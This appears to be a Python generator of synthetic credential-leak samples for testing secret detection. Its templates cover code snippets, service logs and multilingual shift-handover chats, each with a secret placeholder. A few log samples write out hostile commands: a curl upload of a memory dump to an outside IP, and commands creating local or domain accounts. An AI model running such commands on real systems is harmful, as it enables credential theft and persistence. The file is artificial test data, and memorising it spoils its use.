SRC("java-setrequestproperty-basic",
    "HttpURLConnection conn = (HttpURLConnection) new URL(\"https://{host}/api/2.0/fo/asset/host/\").openConnection();\nconn.setRequestProperty(\"Authorization\", \"Basic {S}\");",
    up_pair(), "https://{host}/api/2.0/fo/asset/host/")
SRC("csharp-default-request-headers-add",
    "_http.BaseAddress = new Uri(\"https://www.virustotal.com/api/v3/\");\n_http.DefaultRequestHeaders.Add(\"x-apikey\", \"{S}\");",
    lambda: hexs(64), "https://www.virustotal.com/api/v3/")
SRC("powershell-hashtable-splunk-hec",
    "$hec = @{\n    Uri     = \"https://{host}:8088/services/collector/event\"\n    Method  = \"Post\"\n    Headers = @{ Authorization = \"Splunk {S}\" }\n}\nInvoke-RestMethod @hec -Body ($evt | ConvertTo-Json -Compress)",
    lambda: guid().upper(), "Uri     = \"https://{host}:8088/services/collector/event\"")
SRC("bash-function-continuation-misp-header",
    "create_misp_event() {\n  curl -sk -X POST \"$MISP_URL/events/add\" \\\n    -H \"Authorization: {S}\" \\\n    -H \"Content-Type: application/json\" \\\n    --data \"{\\\"Event\\\": {\\\"info\\\": \\\"$1\\\", \\\"distribution\\\": 0}}\"\n}",
    lambda: al(40), "create_misp_event()")
SRC("py-client-credentials-form-dict",
    "data = {\n    \"grant_type\": \"client_credentials\",\n    \"client_id\": \"{uuid}\",\n    \"client_secret\": \"{S}\",\n    \"scope\": \"https://api.securitycenter.microsoft.com/.default\",\n}\ntok = requests.post(TOKEN_URL, data=data).json()[\"access_token\"]",
    azure_cs, "\"client_id\": \"{uuid}\"")
SRC("go-grpc-metadata-authorization",
    "ctx = metadata.AppendToOutgoingContext(ctx, \"authorization\", \"Bearer {S}\")\nresp, err := client.StreamDetections(ctx, &pb.StreamRequest{Since: since})",
    lambda: b64u(48), "client.StreamDetections(ctx")
SRC("rust-reqwest-header-x-api-key",
    "let resp = client\n    .get(\"https://search.censys.io/api/v2/hosts/search\")\n    .header(\"X-Api-Key\", \"{S}\")\n    .query(&[(\"q\", query)])\n    .send()\n    .await?;",
    lambda: al(32), "https://search.censys.io/api/v2/hosts/search")
SRC("py-configparser-read-string-literal",
    "cfg = configparser.ConfigParser()\ncfg.read_string(\"\"\"\n[sentinelone]\nurl = https://euce1-{org}.sentinelone.net\ntoken = {S}\n\"\"\")",
    s1_token, "url = https://euce1-{org}.sentinelone.net")
SRC("kql-externaldata-sas-url-sig",
    "let TI = externaldata(Indicator:string, Type:string)\n[\"https://{org}ti.blob.core.windows.net/feeds/ioc.csv?sv=2022-11-02&ss=b&srt=o&sp=r&se=2026-01-31T00:00:00Z&spr=https&sig={S}\"]\nwith (format=\"csv\", ignoreFirstRecord=true);",
    _sas_sig, "{org}ti.blob.core.windows.net/feeds/ioc.csv")
SRC("spl-sendalert-webhook-url",
    "index=edr sourcetype={st} severity=critical\n| stats count by host, user\n| sendalert webhook param.url=\"https://hooks.slack.com/services/{tid}/{bid}/{S}\"",
    lambda: (al(24), {"tid": "T" + up(10), "bid": "B" + up(10)}), "| stats count by host, user")
SRC("py-requests-auth-tuple-inline",
    "r = requests.get(f\"{base}/api/2.0/fo/scan/\", auth=(\"{user}\", \"{S}\"), headers={\"X-Requested-With\": \"py\"}, verify=False)",
    pw, "/api/2.0/fo/scan/")
SRC("go-getenv-default-token",
    "token := getenv(\"CS_STREAM_TOKEN\", \"{S}\")\nreq.Header.Set(\"Authorization\", \"Token \"+token)",
    lambda: b64(24), "req.Header.Set(\"Authorization\", \"Token \"+token)")
SRC("java-spring-value-default-literal",
    "@Value(\"${misp.url:https://misp.{org}.internal}\")\nprivate String mispUrl;\n@Value(\"${misp.key:{S}}\")\nprivate String mispKey;",
    lambda: al(40), "private String mispUrl;")
SRC("ts-environment-prod-export",
    "export const environment = {\n  production: true,\n  apiBase: \"https://soc-portal.{org}.internal/api\",\n  urlscanKey: \"{S}\",\n};",
    guid, "apiBase: \"https://soc-portal.{org}.internal/api\"")
SRC("py-hec-event-dict-token-field",
    "payload = {\"event\": alert, \"sourcetype\": \"{st}\", \"index\": \"{index}\"}\nrequests.post(HEC_URL, json=payload, headers={\"Authorization\": \"Splunk {S}\"}, verify=False)",
    guid, "requests.post(HEC_URL, json=payload")


# =====================================================================
# group: stack-trace-or-log  (tracebacks, service logs, audit trails)
# =====================================================================
def _s1_site_token():
    return enc64(json.dumps({"url": "https://euce1-%s.sentinelone.net" % _pick(_ORGS), "site_key": hexs(16)}))


LOG("py-traceback-psycopg2-dsn",
    "Traceback (most recent call last):\n  File \"/opt/case-sync/sync.py\", line 88, in <module>\n    conn = psycopg2.connect(\"postgresql://{user}:{S}@{host}:5432/cases\")\n  File \"/usr/lib/python3/dist-packages/psycopg2/__init__.py\", line 122, in connect\n    conn = _connect(dsn, connection_factory=connection_factory, **kwasync)\npsycopg2.OperationalError: connection to server at \"{host}\" ({ip}), port 5432 failed: FATAL:  password authentication failed for user \"{user}\"",
    pw_url, "password authentication failed for user \"{user}\"")
LOG("sqlalchemy-operationalerror-engine-url",
    "sqlalchemy.exc.OperationalError: (pymysql.err.OperationalError) (2003, \"Can't connect to MySQL server on '{host}' (timed out)\")\n(Background on this error at: https://sqlalche.me/e/20/e3q8)\n  engine url: mysql+pymysql://{user}:{S}@{host}:3306/ossim",
    pw_url, "Can't connect to MySQL server on '{host}'")
LOG("java-psqlexception-caused-by-jdbc-url",
    "org.postgresql.util.PSQLException: FATAL: no pg_hba.conf entry for host \"{ip}\", user \"{user}\", database \"soar\", SSL off\n\tat org.postgresql.core.v3.ConnectionFactoryImpl.doAuthentication(ConnectionFactoryImpl.java:693)\n\tat org.postgresql.Driver.connect(Driver.java:297)\nCaused by: datasource url=jdbc:postgresql://{host}:5432/soar?user={user}&password={S}&ssl=false",
    pw_url, "no pg_hba.conf entry for host \"{ip}\"")
LOG("requests-connectionerror-url-key-param",
    "requests.exceptions.ConnectionError: HTTPSConnectionPool(host='api.shodan.io', port=443): Max retries exceeded with url: /shodan/host/{pip}?key={S} (Caused by NewConnectionError('<urllib3.connection.HTTPSConnection object at 0x7f3a2c1d0>: Failed to establish a new connection: [Errno 110] Connection timed out'))",
    lambda: al(32), "HTTPSConnectionPool(host='api.shodan.io', port=443)")
LOG("nginx-access-log-token-query",
    "{ip} - - [12/Mar/2025:10:14:22 +0000] \"GET /api/v1/feeds/export?format=stix2&token={S} HTTP/1.1\" 200 48213 \"-\" \"python-requests/2.31.0\"",
    lambda: b64u(32), "\"python-requests/2.31.0\"")
LOG("access-log-tines-webhook-secret-path",
    "{ip} - - [03/Feb/2025:22:41:09 +0000] \"POST /webhook/{wid}/{S} HTTP/1.1\" 201 17 \"-\" \"Splunk/{ver}\"",
    lambda: (hexs(32), {"wid": hexs(32)}), "\"Splunk/{ver}\"")
LOG("filebeat-debug-request-headers-apikey",
    "{ts}\tDEBUG\t[esclientleg]\teslegclient/connection.go:272\tRequest headers: map[Accept:[application/json] Authorization:[ApiKey {S}] User-Agent:[Filebeat/{ver}]]",
    elastic_apikey, "eslegclient/connection.go:272")
LOG("http-client-debug-send-bytes",
    "send: b'POST /services/collector/event HTTP/1.1\\r\\nHost: {host}:8088\\r\\nUser-Agent: python-requests/2.31.0\\r\\nAuthorization: Splunk {S}\\r\\nContent-Length: 412\\r\\n\\r\\n'\nreply: 'HTTP/1.1 403 Forbidden\\r\\n'",
    guid, "reply: 'HTTP/1.1 403 Forbidden\\r\\n'")
LOG("journal-config-dict-repr",
    "{date}T08:01:12 {host} soar-worker[{pid}]: starting with config: {'misp_url': 'https://misp.{org}.internal', 'misp_key': '{S}', 'timeout': 30}",
    lambda: al(40), "soar-worker[{pid}]")
LOG("celery-connected-amqp-url",
    "[{ts}: INFO/MainProcess] Connected to amqp://{user}:{S}@{host}:5672/soc\n[{ts_2}: INFO/MainProcess] celery@{app} ready.",
    pw_url, "celery@{app} ready.")
LOG("redis-connection-error-url",
    "ERROR ioc-cache: Error 111 connecting to redis://default:{S}@{host}:6379/0. Connection refused.",
    pw_url, "ERROR ioc-cache: Error 111 connecting to")
LOG("auth-log-sudo-command-password",
    "{date}T09:22:41 {host} sudo:  {user} : TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/mysql -u root -p{S} misp",
    pw_plain, "TTY=pts/1")
LOG("powershell-4104-scriptblock-securestring",
    "EventID: 4104\nComputer: WS-{num}.corp.{org}.example\nScriptBlockText: $p = ConvertTo-SecureString \"{S}\" -AsPlainText -Force; New-LocalUser -Name \"helpdesk2\" -Password $p -PasswordNeverExpires\nPath: C:\\Users\\Public\\setup.ps1",
    pw, "EventID: 4104")
LOG("windows-4688-net-user-add-cmdline",
    "EventCode=4688\nNew Process Name: C:\\Windows\\System32\\net.exe\nCreator Process Name: C:\\Windows\\System32\\cmd.exe\nProcess Command Line: net user svc_backup {S} /add /domain",
    pw_plain, "New Process Name: C:\\Windows\\System32\\net.exe")
LOG("sysmon-event1-json-commandline",
    "{\"EventID\": 1, \"Image\": \"C:\\\\Windows\\\\System32\\\\cmd.exe\", \"CommandLine\": \"cmd /c sqlcmd -S {host} -U sa -P {S} -Q \\\"BACKUP DATABASE Cases TO DISK='C:\\\\\\\\temp\\\\\\\\c.bak'\\\"\", \"User\": \"CORP\\\\{user}\", \"UtcTime\": \"{ts}\"}",
    pw_plain, "\"EventID\": 1")
LOG("auditd-execve-password-arg",
    "type=EXECVE msg=audit({epoch}.412:{num}): argc=4 a0=\"mysqldump\" a1=\"-u{user}\" a2=\"--password={S}\" a3=\"soc_cases\"",
    pw_plain, "a0=\"mysqldump\"")
LOG("falcon-detection-json-behavior-cmdline",
    "{\"detection_id\": \"ldt:{md5}:{num}\", \"device\": {\"hostname\": \"WS-{num_2}\", \"platform_name\": \"Windows\"}, \"behaviors\": [{\"tactic\": \"Exfiltration\", \"cmdline\": \"curl.exe -u backup:{S} http://{pip}/upload -T C:\\\\Windows\\\\Temp\\\\ls.dmp\"}]}",
    pw_url, "\"tactic\": \"Exfiltration\"")
LOG("soar-playbook-debug-request-headers",
    "[{ts}] [playbook:isolate_host] DEBUG http POST https://api.crowdstrike.com/devices/entities/devices-actions/v2?action_name=contain headers={'Authorization': 'Bearer {S}', 'Content-Type': 'application/json'}",
    jwt, "[playbook:isolate_host]")
LOG("lambda-log-printed-event-header",
    "START RequestId: {uuid} Version: $LATEST\n{ts}\t{uuid}\tINFO\tevent: {'headers': {'x-webhook-token': '{S}', 'user-agent': 'Tines'}, 'isBase64Encoded': False}\nEND RequestId: {uuid}",
    lambda: b64u(24), "START RequestId: {uuid}")
LOG("go-panic-struct-dump-password",
    "panic: dial tcp {ip}:9200: connect: connection refused\n\ngoroutine 1 [running]:\nmain.mustConnect({Addresses:[https://{host}:9200] Username:elastic Password:{S} CloudID:})\n\t/src/cmd/shipper/main.go:58 +0x1c5",
    pw_plain, "/src/cmd/shipper/main.go:58")
LOG("rails-log-parameters-unfiltered-password",
    "Started POST \"/users/sign_in\" for {ip} at {date} 11:02:19 +0000\nProcessing by Devise::SessionsController#create as HTML\n  Parameters: {\"authenticity_token\"=>\"[FILTERED]\", \"user\"=>{\"email\"=>\"{email}\", \"password\"=>\"{S}\"}, \"commit\"=>\"Log in\"}",
    pw, "Processing by Devise::SessionsController#create")
LOG("node-unhandled-rejection-axios-config",
    "UnhandledPromiseRejectionWarning: Error: Request failed with status code 401\n    at createError (/app/node_modules/axios/lib/core/createError.js:16:15)\n  config: {\n    url: 'https://api.us-2.crowdstrike.com/detects/queries/detects/v1',\n    headers: { Authorization: 'Bearer {S}' }\n  }",
    jwt, "/app/node_modules/axios/lib/core/createError.js")
LOG("postgres-log-alter-role-statement",
    "{ts} UTC [{pid}] soar_admin@soar LOG:  statement: ALTER ROLE soar_app PASSWORD '{S}';",
    pw, "soar_admin@soar")
LOG("mysql-general-log-set-password",
    "{ts}\t   42 Query\tSET PASSWORD FOR 'grafana_ro'@'%' = '{S}'",
    pw, "SET PASSWORD FOR 'grafana_ro'@'%'")
LOG("mongodb-json-log-createuser-pwd",
    "{\"t\":{\"$date\":\"{ts}\"},\"s\":\"I\",\"c\":\"COMMAND\",\"id\":51803,\"msg\":\"Slow query\",\"attr\":{\"command\":{\"createUser\":\"cortex\",\"pwd\":\"{S}\",\"roles\":[\"readWrite\"]},\"durationMillis\":212}}",
    pw, "\"createUser\":\"cortex\"")
LOG("kafka-producerconfig-values-dump",
    "INFO ProducerConfig values:\n\tacks = -1\n\tbootstrap.servers = [{host}:9093]\n\tsasl.jaas.config = org.apache.kafka.common.security.plain.PlainLoginModule required username=\"{user}\" password=\"{S}\";\n\tsasl.mechanism = PLAIN",
    pw, "bootstrap.servers = [{host}:9093]")
LOG("slack-webhook-delivery-failure-warn",
    "WARN alert-router: POST https://hooks.slack.com/services/{tid}/{bid}/{S} failed: 404 no_service (attempt 3/3)",
    lambda: (al(24), {"tid": "T" + up(10), "bid": "B" + up(10)}), "failed: 404 no_service (attempt 3/3)")
LOG("ios-parser-cfglog-loggedcmd",
    "{date}T14:02:55Z {ip} %PARSER-5-CFGLOG_LOGGEDCMD: User:{user}  logged command:username backup privilege 15 password 0 {S}",
    pw_plain, "%PARSER-5-CFGLOG_LOGGEDCMD")
LOG("airflow-task-log-connection-password",
    "[{ts}] {base.py:73} INFO - Using connection ID 'splunk_default' for task execution.\n[{ts_2}] {splunk_hook.py:41} INFO - Connecting to https://{host}:8089 as {user} with password {S}",
    pw, "Using connection ID 'splunk_default'")
LOG("gunicorn-custom-format-auth-header",
    "{ip} - - [21/Jan/2025:07:44:02 +0000] \"GET /api/cases?status=open HTTP/1.1\" 200 512 \"-\" \"curl/8.1.2\" auth=\"Bearer {S}\"",
    lambda: b64u(40), "\"GET /api/cases?status=open HTTP/1.1\"")
LOG("urllib3-debug-vtapi-v2-apikey",
    "DEBUG:urllib3.connectionpool:https://www.virustotal.com:443 \"GET /vtapi/v2/file/report?apikey={S}&resource={sha256} HTTP/1.1\" 200 None",
    lambda: hexs(64), "DEBUG:urllib3.connectionpool:https://www.virustotal.com:443")
LOG("elastic-agent-json-log-enroll-token",
    "{\"log.level\":\"info\",\"@timestamp\":\"{ts}\",\"log.origin\":{\"file.name\":\"cmd/enroll_cmd.go\"},\"message\":\"Starting enrollment to URL: https://fleet.{org}.internal:8220/ with enrollment token {S}\"}",
    elastic_apikey, "cmd/enroll_cmd.go")
LOG("gha-log-env-block-literal",
    "{ts} ##[group]Run ./scripts/push_iocs.sh\n{ts} ./scripts/push_iocs.sh\n{ts} shell: /usr/bin/bash -e {0}\n{ts} env:\n{ts}   MISP_URL: https://misp.{org}.internal\n{ts}   MISP_KEY: {S}\n{ts} ##[endgroup]",
    lambda: al(40), "##[group]Run ./scripts/push_iocs.sh")
LOG("gitlab-job-log-echoed-token",
    "$ echo \"deploying detections with token $DEPLOY_TOKEN\"\ndeploying detections with token {S}\n$ ./deploy.sh --target splunk-es",
    glpat, "./deploy.sh --target splunk-es")
LOG("docker-build-log-index-url-credentials",
    "#7 [3/6] RUN pip install --index-url https://soc-bot:{S}@nexus.{org}.internal/repository/pypi/simple -r requirements.txt\n#7 2.113 Looking in indexes: https://soc-bot:****@nexus.{org}.internal/repository/pypi/simple",
    pw_url, "#7 [3/6] RUN pip install")
LOG("ansible-failed-module-args-login-password",
    "fatal: [{host}]: FAILED! => {\"changed\": false, \"invocation\": {\"module_args\": {\"login_host\": \"localhost\", \"login_password\": \"{S}\", \"login_user\": \"root\", \"name\": \"wazuh\"}}, \"msg\": \"unable to connect to database\"}",
    pw, "unable to connect to database")
LOG("logstash-output-plugin-params-log",
    "[{ts}][INFO ][logstash.outputs.elasticsearch][main] New Elasticsearch output {:class=>\"LogStash::Outputs::ElasticSearch\", :hosts=>[\"https://{host}:9200\"], :user=>\"logstash_writer\", :password=>\"{S}\"}",
    pw, "logstash.outputs.elasticsearch")
LOG("cortex-analyzer-failure-input-config",
    "{\"success\": false, \"errorMessage\": \"Invalid API key\", \"input\": {\"config\": {\"key\": \"{S}\", \"check_tlp\": true, \"max_tlp\": 2}, \"dataType\": \"ip\", \"data\": \"{pip}\"}}",
    lambda: hexs(80), "\"errorMessage\": \"Invalid API key\"")
LOG("httperror-forbidden-url-api-key",
    "requests.exceptions.HTTPError: 403 Client Error: Forbidden for url: https://otx.alienvault.com/api/v1/pulses/subscribed?limit=50&api_key={S}",
    lambda: hexs(64), "403 Client Error: Forbidden")
LOG("vault-audit-log-raw-client-token",
    "{\"time\":\"{ts}\",\"type\":\"request\",\"auth\":{\"client_token\":\"{S}\",\"accessor\":\"hmac-sha256:{sha256}\",\"display_name\":\"approle-soar\"},\"request\":{\"operation\":\"read\",\"path\":\"secret/data/soc/vt\"}}",
    hvs_long, "\"display_name\":\"approle-soar\"")
LOG("sentry-breadcrumb-url-token",
    "\"breadcrumbs\": [\n  {\"category\": \"httplib\", \"level\": \"info\", \"data\": {\"url\": \"https://enrich.{org}.example/v1/lookup?token={S}\", \"method\": \"GET\", \"status_code\": 401}}\n]",
    lambda: lo(40), "\"category\": \"httplib\"")
LOG("kubectl-logs-bootstrap-generated-token",
    "$ kubectl -n {ns} logs job/opencti-bootstrap\n{ts} INFO  seeding admin user {email}\n{ts} INFO  Generated admin token: {S}\n{ts} INFO  bootstrap complete",
    guid, "seeding admin user {email}")
LOG("iis-log-query-string-pwd",
    "{date} 10:15:01 {ip} GET /legacy/login.aspx user={user}&pwd={S} 443 - {pip} Mozilla/5.0+(Windows+NT+10.0) - 302 0 0 31",
    pw_url, "GET /legacy/login.aspx")
LOG("systemd-unit-execstart-agent-auth-p",
    "{date}T06:00:01 {host} systemd[1]: Starting wazuh-enroll.service...\n{date}T06:00:01 {host} agent-auth[{pid}]: ExecStart=/var/ossec/bin/agent-auth -m {host_2} -P {S} -A {host}\n{date}T06:00:02 {host} agent-auth[{pid}]: ERROR: Invalid password (from manager)",
    pw_plain, "Starting wazuh-enroll.service")
LOG("java-ldap-authexception-env-credentials",
    "javax.naming.AuthenticationException: [LDAP: error code 49 - 80090308: LdapErr: DSID-0C09044E, comment: AcceptSecurityContext error, data 52e, v4563]\n\tat com.sun.jndi.ldap.LdapCtx.mapErrorCode(LdapCtx.java:3261)\n  env={java.naming.provider.url=ldaps://{host}:636, java.naming.security.principal=CN={user},OU=Service, java.naming.security.credentials={S}}",
    pw, "AcceptSecurityContext error, data 52e")
LOG("dotnet-sqlexception-connection-string",
    "System.Data.SqlClient.SqlException (0x80131904): Login failed for user '{user}'.\n   at System.Data.SqlClient.SqlInternalConnectionTds..ctor(...)\n   at Soc.Cases.Repo.OpenAsync() in /src/Repo.cs:line 44\nConnectionString: Data Source={host};Initial Catalog=Soc;User ID={user};Password={S}",
    pw_plain, "Login failed for user '{user}'")
LOG("php-fatal-pdo-construct-args",
    "PHP Fatal error:  Uncaught PDOException: SQLSTATE[HY000] [1045] Access denied for user 'misp'@'{ip}' (using password: YES) in /var/www/MISP/app/Lib/cakephp/lib/Cake/Model/Datasource/Database/Mysql.php:177\nStack trace:\n#0 /var/www/MISP/app/Lib/cakephp/lib/Cake/Model/Datasource/Database/Mysql.php(177): PDO->__construct('mysql:host=db;p...', 'misp', '{S}', Array)",
    pw, "Access denied for user 'misp'@'{ip}'")
LOG("faraday-logger-pagerduty-token-header",
    "I, [{ts} #{pid}]  INFO -- request: GET https://api.pagerduty.com/incidents?statuses[]=triggered\nI, [{ts} #{pid}]  INFO -- request: Authorization: \"Token token={S}\"\nAccept: \"application/vnd.pagerduty+json;version=2\"",
    lambda: "u+" + _chars(_B64U, 18), "https://api.pagerduty.com/incidents")
LOG("ansible-vvvv-winrm-connection-vars",
    "<{host}> ESTABLISH WINRM CONNECTION FOR USER: {user} on PORT 5986 TO {host}\n<{host}> connection vars: {'ansible_connection': 'winrm', 'ansible_user': '{user}', 'ansible_password': '{S}', 'ansible_winrm_transport': 'ntlm'}",
    pw, "ESTABLISH WINRM CONNECTION FOR USER: {user}")
LOG("zeek-http-log-captured-password",
    "#fields\tts\tuid\tid.orig_h\tid.resp_h\tmethod\thost\turi\tusername\tpassword\n{epoch}.104533\tC{rid}\t{ip}\t{ip_2}\tGET\t{host}\t/admin/export\t{user}\t{S}",
    pw_plain, "#fields\tts\tuid\tid.orig_h")
LOG("pcap-ftp-cleartext-user-pass",
    "$ tcpdump -A -r {ticket}.pcap 'tcp port 21' | grep -E 'USER|PASS'\nUSER {user}\r\nPASS {S}\r\n",
    pw_plain, "'tcp port 21'")
LOG("squid-access-log-userinfo-url",
    "{epoch}.123    421 {ip} TCP_MISS/200 1534 GET http://{user}:{S}@{host}/cgi-bin/export.csv - HIER_DIRECT/{ip_2} text/csv",
    pw_url, "TCP_MISS/200 1534 GET")
LOG("debug-log-loaded-env-var",
    "[DEBUG] {ts} config: loaded env DD_API_KEY={S} DD_SITE=datadoghq.eu DD_SERVICE=siem-forwarder",
    lambda: hexs(32), "DD_SERVICE=siem-forwarder")
LOG("pytest-assertion-token-in-message",
    "E       AssertionError: expected 200, got 403 for token '{S}' on secret/data/soc/vt\nE       assert 403 == 200\n\ntests/test_vault_client.py:58: AssertionError",
    hvs, "tests/test_vault_client.py:58: AssertionError")
LOG("axios-error-auth-object",
    "AxiosError: Request failed with status code 401\n  config: { auth: { username: '{user}', password: '{S}' }, url: 'https://{host}/api/v1/alerts', method: 'get' }",
    pw, "url: 'https://{host}/api/v1/alerts'")
LOG("msi-verbose-log-property-change-site-token",
    "MSI (s) (A4:3C) [10:12:55:123]: PROPERTY CHANGE: Adding SITE_TOKEN property. Its value is '{S}'.\nMSI (s) (A4:3C) [10:12:55:124]: PROPERTY CHANGE: Adding INSTALLDIR property.",
    _s1_site_token, "Adding INSTALLDIR property.")
LOG("bash-xtrace-curl-u-password",
    "+ SPLUNK_URL=https://{host}:8089\n+ curl -sk -u admin:{S} https://{host}:8089/services/server/info\n+ grep -q version",
    pw_noat, "+ grep -q version")
LOG("jenkins-console-literal-docker-login",
    "[Pipeline] sh\n+ docker login -u soc-ci -p {S} registry.{org}.internal\nWARNING! Using --password via the CLI is insecure. Use --password-stdin.\nLogin Succeeded",
    pw_plain, "WARNING! Using --password via the CLI is insecure.")
LOG("k8s-audit-event-secret-data",
    "{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"RequestResponse\",\"verb\":\"create\",\"objectRef\":{\"resource\":\"secrets\",\"namespace\":\"{ns}\",\"name\":\"hec\"},\"requestObject\":{\"data\":{\"token\":\"{S}\"}}}",
    lambda: enc64(guid()), "\"objectRef\":{\"resource\":\"secrets\"")
LOG("uvicorn-access-log-apikey-query",
    "INFO:     {ip}:51422 - \"GET /ioc/lookup?apikey={S}&value={dom} HTTP/1.1\" 200 OK",
    lambda: al(32), "value={dom}")
LOG("suricata-eve-http-request-headers",
    "{\"timestamp\":\"{ts}\",\"event_type\":\"http\",\"src_ip\":\"{ip}\",\"http\":{\"hostname\":\"{host}\",\"url\":\"/api/v2/export\",\"request_headers\":[{\"name\":\"Authorization\",\"value\":\"Bearer {S}\"}]}}",
    lambda: b64u(36), "\"event_type\":\"http\"")
LOG("wazuh-api-log-login-body",
    "{date} 12:00:03,112 wazuh-apid DEBUG: POST /security/user/authenticate body={'username': 'wazuh-wui', 'password': '{S}'} from {ip}",
    pw, "POST /security/user/authenticate")
LOG("tenable-sc-scan-log-credential-failure",
    "{date} 03:12:44 scan {num} host {ip}: SSH login failed for {user} using password '{S}' (credential set 'linux-prod')",
    pw, "credential set 'linux-prod'")
LOG("graylog-input-start-log-password",
    "{ts} INFO  [InputStateListener] Input [Beats/{short}] is now STARTING\n{ts} DEBUG [ElasticsearchConfig] elasticsearch_hosts=https://graylog:{S}@{host}:9200",
    pw_url, "Input [Beats/{short}] is now STARTING")
LOG("velociraptor-client-log-writeback-key",
    "[INFO] {ts} Loaded writeback from /etc/velociraptor.writeback.yaml\n[DEBUG] {ts} writeback: private_key: \"-----BEGIN RSA PRIVATE KEY-----\\n{S}\\n-----END RSA PRIVATE KEY-----\\n\"",
    _sa_key_escaped, "Loaded writeback from /etc/velociraptor.writeback.yaml")
LOG("cribl-worker-log-leader-url",
    "{\"time\":\"{ts}\",\"cid\":\"w0\",\"channel\":\"DistWorker\",\"level\":\"info\",\"message\":\"connecting to leader\",\"url\":\"tls://{S}@cribl-leader.{org}.internal:4200?group=edge\"}",
    lambda: al(32), "\"message\":\"connecting to leader\"")


# =====================================================================
# group: note-or-chat  (handovers, chat pastes, goals, decisions; many languages)
# =====================================================================
NOTE("soc-handover-bullets-pw-label",
    "Handover {date} night -> day ({team})\n- {ticket}: phishing wave still active, blocked {dom} at the proxy\n- forensic Splunk svc acct: {user} / pw: {S} (rotate after IR closes)\n- nothing else pending",
    pw, "blocked {dom} at the proxy")
NOTE("slack-thread-handover-password",
    "[{time}] {first}: anyone have the nessus admin login?\n[{time_2}] {first_2}: admin / {S}  -- it's in the vault too, this is just faster",
    pw, "anyone have the nessus admin login?")
NOTE("de-uebergabe-passwort",
    "Übergabe Spätschicht: Der Splunk-Admin-Zugang für die Forensik-Instanz ist jetzt admin, Passwort: {S}. Bitte nach Abschluss von {ticket} ändern.",
    pw, "Bitte nach Abschluss von {ticket} ändern.")
NOTE("fr-passation-mdp",
    "Note de passation : le compte {user} sur {host} a été réactivé, mdp : {S} (à changer après la cellule de crise).",
    pw, "le compte {user} sur {host}")
NOTE("es-turno-contrasena",
    "Turno de noche: la contraseña del usuario {user} en Wazuh es {S}, la cambié porque estaba bloqueada.",
    pw, "la contraseña del usuario {user} en Wazuh")
NOTE("pt-passagem-senha",
    "Passagem de turno: a senha do {user} no TheHive agora é {S} — trocar depois do incidente {ticket}.",
    pw, "trocar depois do incidente {ticket}")
NOTE("it-consegna-credenziali",
    "Consegna turno: credenziali Qualys per gli scan notturni -> utente {user}, password {S}.",
    pw, "utente {user}")
NOTE("nl-overdracht-wachtwoord",
    "Overdracht: het wachtwoord voor de MISP-beheerder is tijdelijk {S}, graag morgen wijzigen. Zie {ticket}.",
    pw, "graag morgen wijzigen")
NOTE("pl-przekazanie-haslo",
    "Przekazanie zmiany: hasło do konta {user} na {host} to {S} (tymczasowe, zmienić po {ticket}).",
    pw, "na {host}")
NOTE("ja-hikitsugi-password",
    "引き継ぎ: {host} の {user} のパスワードは {S} です。インシデント {ticket} 完了後に変更してください。",
    pw, "インシデント {ticket} 完了後に変更してください。")
NOTE("zh-jiaojie-hec-token",
    "交接：Splunk HEC 的新令牌是 {S}，旧的已经吊销，索引还是 {index}。",
    guid, "索引还是 {index}")
NOTE("ko-insugingye-password",
    "인수인계: {user} 계정 비밀번호는 {S} 입니다. 내일 오전에 교체 예정.",
    pw, "내일 오전에 교체 예정.")
NOTE("ru-peredacha-smeny-parol",
    "Передача смены: пароль от {user} на {host} — {S}, поменяем после разбора {ticket}.",
    pw, "поменяем после разбора {ticket}")
NOTE("tr-vardiya-devri-sifre",
    "Vardiya devri: {user} hesabının şifresi {S}, olay kapandıktan sonra değiştirilecek.",
    pw, "olay kapandıktan sonra değiştirilecek")
NOTE("sv-overlamning-losenord",
    "Överlämning: lösenordet till Graylog-admin är {S} tills vidare. /{first}",
    pw, "tills vidare")
NOTE("cs-predavka-heslo",
    "Předávka směny: heslo k účtu {user} je {S}, po incidentu změnit.",
    pw, "po incidentu změnit")
NOTE("uk-peredacha-parol",
    "Передача зміни: пароль до {user} у Kibana — {S}. Змінити після {ticket}.",
    pw, "Змінити після {ticket}")
NOTE("vi-ban-giao-mat-khau",
    "Bàn giao ca: mật khẩu tài khoản {user} trên Kibana là {S}, nhớ đổi sau sự cố.",
    pw, "nhớ đổi sau sự cố")
NOTE("id-serah-terima-kata-sandi",
    "Serah terima shift: kata sandi {user} di OpenCTI sekarang {S}, tolong ganti besok.",
    pw, "tolong ganti besok")
NOTE("hi-shift-handover-password",
    "शिफ्ट हैंडओवर: {user} का पासवर्ड {S} है, कल बदलना है। टिकट {ticket}",
    pw, "टिकट {ticket}")
NOTE("ar-taslim-kalimat-al-murur",
    "تسليم الوردية: كلمة المرور لحساب {user} على {host} هي {S} ويجب تغييرها بعد الحادثة",
    pw, "على {host}")
NOTE("he-haavarat-mishmeret-sisma",
    "העברת משמרת: הסיסמה של {user} ב-Cortex היא {S}, להחליף אחרי {ticket}",
    pw, "להחליף אחרי {ticket}")
NOTE("fi-vuoronvaihto-salasana",
    "Vuoronvaihto: {user}-tunnuksen salasana on {S}, vaihdetaan tapauksen {ticket} jälkeen.",
    pw, "vaihdetaan tapauksen {ticket} jälkeen")
NOTE("agent-running-note-tried-login",
    "Notes: tried {user}@{host} with the password from the ticket ({S}) -> login OK, Splunk {ver} confirmed, ES app present.",
    pw, "Splunk {ver} confirmed")
NOTE("agent-goal-with-client-secret",
    "Goal: get CrowdStrike FDR events into Sentinel. Using API client {md5} with secret {S} that {first} pasted in {ticket}.",
    cs_secret, "Goal: get CrowdStrike FDR events into Sentinel.")
NOTE("decision-rotated-hec-token-new-value",
    "Decision: rotated the HEC token for the firewall input. New token {S} is live on {host}; old one disabled at {time} UTC.",
    guid, "old one disabled at {time} UTC")
NOTE("teams-chat-paste-vt-key",
    "{person}  {time}\nhere's the premium VT key until procurement sorts ours out: {S}\npls don't put it in the playbook repo",
    lambda: hexs(64), "pls don't put it in the playbook repo")
NOTE("chat-user-slash-slash-password-nolabel",
    "{first}: sandbox UI -> https://{host}/  {user} // {S}",
    pw, "https://{host}/")
NOTE("incident-comment-compromised-creds",
    "{ticket} comment by {first}: attacker used valid creds for {user} (password {S}, found in the paste dump). Reset done, sessions revoked.",
    pw, "Reset done, sessions revoked.")
NOTE("jira-code-macro-export-key",
    "{code}\nexport URLSCAN_KEY={S}\n{code}\nuse that one for the bulk submission, {first}",
    guid, "use that one for the bulk submission")
